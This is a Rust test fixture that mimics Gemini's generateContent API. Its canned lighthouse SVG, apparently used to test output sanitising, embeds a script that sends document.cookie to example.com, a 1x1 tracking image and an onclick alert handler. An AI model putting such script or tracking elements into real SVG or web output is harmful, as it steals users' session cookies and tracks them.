//! Stands in for Gemini where there is no key. It speaks `generateContent` over HTTP, as the real one does, but no model is
//! behind it: it has one picture, can change the colours of another, and refuses one subject.

use anyhow::Context as _;
use axum::extract::Path;
use axum::http::StatusCode;
use axum::response::{IntoResponse as _, Response as HttpResponse};
use axum::routing::post;
use axum::{Json, Router};
use mcp_gemini::wire::{
    Candidate, Content, ErrorBody, PromptFeedback, Request, Response, Status, Usage,
};
use serde_json::json;
use tokio::net::TcpListener;
use tokio::task::JoinSet;

/// What it takes for a subject that a real model's filters would stop.
pub(super) const FORBIDDEN: &str = "something that the provider's filters stop";
/// What it takes for the wish to have the colours changed.
pub(super) const RECOLOUR: &str = "Make the sky red.";
/// The sky before and after.
pub(super) const SKY: &str = "#1d3557";
const RED: &str = "#9b2226";

/// As a model might send it: with things in it that no picture needs.
const LIGHTHOUSE: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" width="320" height="200" viewBox="0 0 320 200">
<script>fetch("https://example.com/?" + document.cookie)</script>
<rect width="320" height="200" fill="#1d3557"/>
<image href="https://example.com/track.png" width="1" height="1"/>
<circle cx="270" cy="40" r="18" fill="#f1faee"/>
<polygon points="160,62 320,20 320,78" fill="#ffe066" opacity="0.5"/>
<path d="M0 160 Q80 140 160 160 T320 160 V200 H0 Z" fill="#457b9d"/>
<polygon points="142,160 150,70 170,70 178,160" fill="#f1faee" onclick="alert(1)"/>
<rect x="147" y="96" width="26" height="14" fill="#e63946"/>
<rect x="145" y="124" width="30" height="14" fill="#e63946"/>
<rect x="148" y="56" width="24" height="14" fill="#ffe066"/>
<polygon points="144,56 160,42 176,56" fill="#e63946"/>
</svg>"##;

/// It ends when this is dropped.
pub(super) struct ScriptedGemini {
    url: String,
    _serving: JoinSet<()>,
}

impl ScriptedGemini {
    pub(super) async fn start() -> anyhow::Result<Self> {
        let listener = TcpListener::bind(("127.0.0.1", 0)).await;
        let listener = listener.context("the scripted Gemini")?;
        let url = format!("http://{}", listener.local_addr()?);
        let app = Router::new().route("/v1beta/models/{call}", post(answer));
        let mut serving = JoinSet::new();
        serving.spawn(async move {
            // It ends only with its task.
            let _ = axum::serve(listener, app).await;
        });
        Ok(Self {
            url,
            _serving: serving,
        })
    }

    /// For `GEMINI_BASE_URL`.
    pub(super) fn url(&self) -> &str {
        &self.url
    }
}

async fn answer(Path(call): Path<String>, Json(request): Json<Request>) -> HttpResponse {
    let Some(model) = call.strip_suffix(":generateContent") else {
        let error = Status {
            code: 404,
            message: format!("{call} is no method of the scripted Gemini"),
            status: "NOT_FOUND".into(),
            details: Vec::new(),
        };
        return (StatusCode::NOT_FOUND, Json(ErrorBody { error })).into_response();
    };
    let asked = request.contents.last().and_then(|turn| turn.parts.first());
    let asked = asked.and_then(|part| part.text.as_deref());
    Json(Response {
        model_version: Some(format!("{model} (scripted, no model)")),
        ..respond(asked.unwrap_or_default())
    })
    .into_response()
}

fn respond(asked: &str) -> Response {
    if asked.contains(FORBIDDEN) {
        return Response {
            prompt_feedback: Some(PromptFeedback {
                block_reason: Some("PROHIBITED_CONTENT".into()),
            }),
            ..Response::default()
        };
    }
    let given = asked.find("<svg").map(|at| &asked[at..]);
    let output = match given {
        Some(svg) if asked.contains(RECOLOUR) => json!({
            "title": "The same with a red sky",
            "description": "The given picture, its sky red.",
            "svg": svg.replace(SKY, RED),
        }),
        _ => json!({
            "title": "Lighthouse at night",
            "description": "A white and red lighthouse on a dark shore; its beam points to the right, under a full moon.",
            "svg": LIGHTHOUSE,
        }),
    };
    let text = output.to_string();
    Response {
        usage_metadata: Usage {
            prompt_token_count: asked.len() as u64 / 4,
            candidates_token_count: text.len() as u64 / 4,
            thoughts_token_count: 0,
        },
        candidates: vec![Candidate {
            content: Some(Content::text(Some("model"), text)),
            finish_reason: Some("STOP".into()),
            finish_message: None,
        }],
        ..Response::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(response: Response) -> String {
        let content = response.candidates.into_iter().next().unwrap().content;
        content.unwrap().parts.remove(0).text.unwrap()
    }

    #[test]
    fn it_draws_recolours_and_refuses() {
        assert!(text(respond("a lighthouse")).contains("<script>"));
        let changed = text(respond(&format!("{RECOLOUR}\n\n<svg fill='{SKY}'/>")));
        assert!(changed.contains(RED) && !changed.contains(SKY), "{changed}");
        let refused = respond(&format!("draw {FORBIDDEN}"));
        assert!(refused.candidates.is_empty() && refused.prompt_feedback.is_some());
    }
}
